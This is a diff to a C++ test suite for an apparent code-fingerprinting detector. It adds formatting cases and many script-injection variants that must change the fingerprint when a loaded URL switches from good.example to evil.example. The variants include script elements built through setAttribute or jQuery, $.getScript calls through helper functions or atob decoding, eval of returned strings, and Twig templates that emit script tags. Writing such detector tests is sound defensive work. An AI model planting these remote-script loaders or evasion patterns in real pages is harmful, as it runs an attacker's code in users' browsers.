@@ -67,6 +67,12 @@ std::vector<Change> formatting() {
            "function load(u, done) { $.getScript( u , done ) }\n load(\"https://a.example/a.js\", "
            "f)",
            true),
+      line("a number's leading zero", "js-platform-write", "APP.x = .5;", "APP.x = 0.5;", true),
+      line("letters of a number", "js-platform-write", "APP.x = 0XAB;", "APP.x = 0xab;", true),
+      line("the letter of an exponent", "js-platform-write", "APP.x = 1E3;", "APP.x = 1e3;", true),
+      line("separators of a number", "js-platform-write", "APP.x = 1_000;", "APP.x = 1000;", true),
+      line("letters of a big number", "js-platform-write", "APP.x = 0XFFn;", "APP.x = 0xffn;",
+           true),
       line("quotes around a key", "js-console", "console.log({'a': 1});", "console.log({a: 1});",
            true),
       line("a member by its text", "js-console", "console.log(x['a']);", "console.log(x.a);", true),
@@ -163,6 +169,111 @@ std::vector<Change> substance() {
   };
 }
 
+/// The same code with another address, function or text in the place of `@`.
+Change other(const char* what, std::string_view rule, const std::string& code,
+             const std::string& before = "https://good.example/a.js",
+             const std::string& after = "https://evil.example/a.js") {
+  const auto with = [&](const std::string& text) {
+    std::string out = code;
+    for (auto at = out.find('@'); at != out.npos; at = out.find('@', at + text.size()))
+      out.replace(at, 1, text);
+    return out;
+  };
+  return line(what, rule, with(before), with(after), false);
+}
+
+std::vector<Change> made_elements() {
+  const std::string_view rule = "js-script-injection";
+  const std::string made = "var s = document.createElement('script'); ";
+  const std::string added = " document.head.append(s);";
+  return {
+      other("setAttribute", rule, made + "s.setAttribute('src', '@');" + added),
+      other("a variable in setAttribute", rule,
+            "var u = '@'; " + made + "s.setAttribute('src', u);" + added),
+      other("setAttributeNode", rule,
+            made +
+                "var a = document.createAttribute('src'); a.value = '@'; "
+                "s.setAttributeNode(a);" +
+                added),
+      other("Object.assign", rule, made + "Object.assign(s, {src: '@'});" + added),
+      other("a helper that sets it", rule,
+            "function set(el, u) { el.src = u; } " + made + "set(s, '@');" + added),
+      other("set by another function", rule, made + "function go() { s.src = '@'; } go();" + added),
+      other("kept in a field", rule,
+            "this.s = document.createElement('script'); this.s.src = '@'; "
+            "document.head.append(this.s);"),
+      other("kept in an object", rule,
+            "var o = {}; o.s = document.createElement('script'); o.s.src = '@'; "
+            "document.head.append(o.s);"),
+      other("made by a helper", rule,
+            "function make() { return document.createElement('script'); } var s = make(); "
+            "s.src = '@';" +
+                added),
+      other("made by an arrow", rule,
+            "const make = () => document.createElement('script'); var s = make(); s.src = '@';" +
+                added),
+      other("a chain of jQuery", rule, "$('<script>').attr('src', '@').appendTo('head');"),
+      other("properties of jQuery", rule, "$('<script>', {src: '@'}).appendTo('head');"),
+      other("another Blob", rule, made + "s.src = URL.createObjectURL(new Blob(['@']));" + added,
+            "a()", "b()"),
+      other("a Blob in a variable", rule,
+            "var code = ['@']; var b = new Blob(code); " + made +
+                "s.src = URL.createObjectURL(b);" + added,
+            "a()", "b()"),
+      other("another handler", rule, "$('.a').attr('onclick', '@');", "a()", "b()"),
+      other("another handler by setAttribute", rule,
+            "var h = '@'; document.querySelector('.a').setAttribute('onclick', h);", "a()", "b()"),
+  };
+}
+
+std::vector<Change> handed_back() {
+  const std::string_view rule = "js-script-injection";
+  return {
+      other("a function that returns it", rule, "function u() { return '@'; } $.getScript(u());"),
+      other("an arrow that returns it", rule, "var u = () => '@'; $.getScript(u());"),
+      other("a method that returns it", rule,
+            "var c = {u: function () { return '@'; }}; $.getScript(c.u());"),
+      other("through two functions", rule,
+            "function a(u) { b(u); } function b(x) { $.getScript(x); } a('@');"),
+      other("a default", rule, "function a(u = '@') { $.getScript(u); } a();"),
+      other("an item of a list", rule, "['@'].forEach(function (u) { $.getScript(u); });"),
+      other("decoded", rule, "$.getScript(atob('@'));",
+            "aHR0cHM6Ly9nb29kLmV4YW1wbGUvYQ==", "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ=="),
+      other("code of a function", "js-eval", "function code() { return '@'; } eval(code());", "a()",
+            "b()"),
+      other("code of a field", "js-eval", "var o = {c: '@'}; eval(o.c);", "a()", "b()"),
+  };
+}
+
+/// As `other`, in a template.
+std::vector<Change> templates() {
+  std::vector<Change> out;
+  const auto add = [&](const char* what, std::string_view rule, const std::string& code,
+                       const std::string& before = "https://good.example/a.js",
+                       const std::string& after = "https://evil.example/a.js") {
+    const std::size_t at = code.find('@');
+    std::string first = code, second = code;
+    out.push_back({what, rule, first.replace(at, 1, before), second.replace(at, 1, after), false,
+                   "templates/a.twig"});
+  };
+  add("a tag that twig names", "template-script",
+      "{% set t = 'script' %}<{{ t }} src=\"@\"></{{ t }}>");
+  add("an argument of a macro", "template-script",
+      "{% macro m(u) %}<script src=\"{{ u }}\"></script>{% endmacro %}{{ _self.m('@') }}");
+  add("an item of a loop", "template-script",
+      "{% for u in ['@'] %}<script src=\"{{ u }}\"></script>{% endfor %}");
+  add("the second of two outputs", "template-external-resource",
+      "{% set a = 'https:' %}{% set u = '@' %}<script src=\"{{ a }}{{ u }}\"></script>",
+      "//good.example/a.js", "//evil.example/a.js");
+  add("a choice", "template-script", "<script src=\"{{ x ? '@' : '/a.js' }}\"></script>");
+  add("an import map", "template-external-resource",
+      "<script type=\"importmap\">{\"imports\": {\"a\": \"@\"}}</script>");
+  add("a handler that twig takes from a name", "js-eval",
+      "{% set h = 'eval(@)' %}<b onclick=\"{{ h }}\">x</b>", "a", "b");
+  add("another handler", "template-inline-script", "<b onclick=\"@()\">x</b>", "a", "b");
+  return out;
+}
+
 void expect(const std::vector<Change>& changes) {
   for (const Change& change : changes) {
     SCOPED_TRACE(change.what);
@@ -178,6 +289,12 @@ void expect(const std::vector<Change>& changes) {
 TEST(Fingerprint, SurvivesFormattingAndMoves) { expect(formatting()); }
 
 TEST(Fingerprint, ChangesWithWhatIsLoadedRunOrSent) { expect(substance()); }
+
+TEST(Fingerprint, ChangesWithWhatBecomesOfAMadeElement) { expect(made_elements()); }
+
+TEST(Fingerprint, ChangesWithWhatAFunctionHandsBack) { expect(handed_back()); }
+
+TEST(Fingerprint, ChangesWithWhatATemplateWrites) { expect(templates()); }
 
 TEST(Fingerprint, ASecondCallLeavesTheFirstAlone) {
   const auto one = fingerprints("js-console", script_of("console.log('a');"));
